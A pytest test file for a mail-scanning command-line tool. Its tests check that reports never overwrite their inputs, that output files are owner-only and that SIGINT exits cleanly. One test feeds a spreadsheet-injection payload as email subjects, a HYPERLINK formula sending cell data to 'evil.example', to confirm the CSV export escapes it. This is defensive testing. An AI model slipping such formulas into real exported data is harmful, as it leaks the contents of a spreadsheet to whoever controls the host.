"""What commands for people write: never over what they read, whole or not at all, and for nobody else to read."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest
from running import ENVIRON, START, mailscan

LETTER = "From joe@example.org Sat Feb 24 10:21:37 1996\nFrom: joe@example.org\nSubject: {}\n\nHello\n\n"
KEEPS = ""
REFUSES = '[[filter]]\nuse = "subject"\nprefixes = ["free"]\naction = "reject"\n'


class Place:
    """A folder with an mbox, two policies, and names for what is not to be written over."""

    def __init__(self, folder: Path, count: int = 3) -> None:
        self.folder = folder
        self.mbox, self.old, self.new = folder / "a.mbox", folder / "old.toml", folder / "new.toml"
        self.mbox.write_text("".join(LETTER.format(f"free {number}") for number in range(count)))
        self.old.write_text(KEEPS)
        self.new.write_text(REFUSES)
        os.symlink(self.mbox, folder / "link.html")
        os.link(self.mbox, folder / "same.jsonl")
        self.page = folder / "page.html"
        self.page.write_text("an earlier page")


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


@pytest.mark.parametrize(
    "words",
    [
        "audit --html {0}/a.mbox {0}/a.mbox",
        "audit --html {0}/link.html {0}/a.mbox",
        "audit --html {0}/other.mbox {0}/a.mbox",
        "audit --out {0}/same.jsonl {0}/a.mbox",
        "audit --policy {0}/old.toml --html {0}/old.toml {0}/a.mbox",
        "backtest {0}/new.toml --against {0}/old.toml --out {0}/a.mbox {0}/a.mbox",
        "backtest {0}/new.toml --against {0}/old.toml --out {0}/same.jsonl --expect ham {0}/a.mbox",
        "backtest {0}/new.toml --against {0}/old.toml --html {0}/new.toml {0}/a.mbox",
        "backtest {0}/new.toml --against {0}/old.toml --out {0}/x.csv {0}/a.mbox",
        "scan --file {0}/a.mbox --record {0}/a.mbox",
        "scan --file {0}/a.mbox --policy {0}/old.toml --record {0}/link.html/../old.toml",
    ],
)
def test_nothing_is_written_over_what_is_read(place: Place, words: str) -> None:
    before = {one: one.read_bytes() for one in sorted(place.folder.iterdir())}
    done = mailscan(*words.format(place.folder).split(), stdin=b"")
    assert done.status in (1, 2, 75), done.err
    assert {one: one.read_bytes() for one in sorted(place.folder.iterdir())} == before
    assert "written over" in done.err or "called" in done.err or "call it" in done.err or "record" in done.err


@pytest.mark.parametrize("why", ["--replay=/nowhere", "--policy=/nowhere", "--jobs=x"])
def test_an_earlier_page_stands_when_a_run_fails(place: Place, why: str) -> None:
    done = mailscan("audit", "--html", str(place.page), why, str(place.mbox), stdin=b"")
    assert done.status != 0
    assert place.page.read_text() == "an earlier page"


def test_only_their_owner_reads_them(place: Place) -> None:
    os.umask(0o022)
    for ending in ("jsonl", "csv", "sqlite", "parquet"):
        out = place.folder / f"x.{ending}"
        assert mailscan("audit", "--out", str(out), "--html", str(place.page), str(place.mbox), stdin=b"").status == 0
        assert out.stat().st_mode & 0o777 == 0o600, ending
    rows = place.folder / "y.jsonl"
    compared = ("backtest", str(place.new), "--against", str(place.old), "--allow", "9", "--out", str(rows))
    assert mailscan(*compared, str(place.mbox), stdin=b"").status == 0
    assert rows.stat().st_mode & 0o777 == place.page.stat().st_mode & 0o777 == 0o600
    assert "an earlier page" not in place.page.read_text()


def test_a_subject_is_no_formula_in_a_spreadsheet(place: Place) -> None:
    subjects = ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "a\x1b[31m\x07b", "1, 2"]
    place.mbox.write_text("".join(LETTER.format(one) for one in subjects))
    out = place.folder / "x.csv"
    assert mailscan("audit", "--out", str(out), str(place.mbox), stdin=b"").status == 0
    with open(out, encoding="utf-8", newline="") as file:
        found = [row["subject"] for row in csv.DictReader(file)]
    assert found[:4] == [f"'{one}" for one in subjects[:4]]
    assert not any(ord(char) < 32 for char in found[4]) and found[5] == "1, 2"


@pytest.mark.parametrize("command", ["audit", "backtest", "try"])
def test_a_person_who_interrupts_is_no_mailer(tmp_path: Path, command: str) -> None:
    """At any moment, between the first import and the last row: status 1, a line, no SMTP reply, no traceback."""
    place = Place(tmp_path, 4000)
    (tmp_path / "own.py").write_text("import time\n\ndef check(mail, outside):\n    time.sleep(0.01)\n")
    place.old.write_text('[[filter]]\nuse = "./own.py"\n')
    words = {
        "audit": ["audit", "--jobs", "2", "--policy", str(place.old), str(place.mbox)],
        "backtest": ["backtest", str(place.old), "--against", str(place.old), str(place.mbox)],
        "try": ["try", str(tmp_path / "own.py"), str(place.mbox)],
    }[command]
    for wait in (0.1, 0.15, 0.2, 0.3, 0.5, 0.8):
        process = subprocess.Popen(
            [*START, *words], env=ENVIRON, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL
        )
        time.sleep(wait)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=20)
        if b"KeyboardInterrupt" in err:  # Python itself, before the first line of ours
            continue
        assert process.returncode == 1, (wait, process.returncode, err)
        assert b"Traceback" not in err and b"4.3.0" not in out, (wait, err, out[-200:])
        assert b"stopped by signal 2" in err, (wait, err)
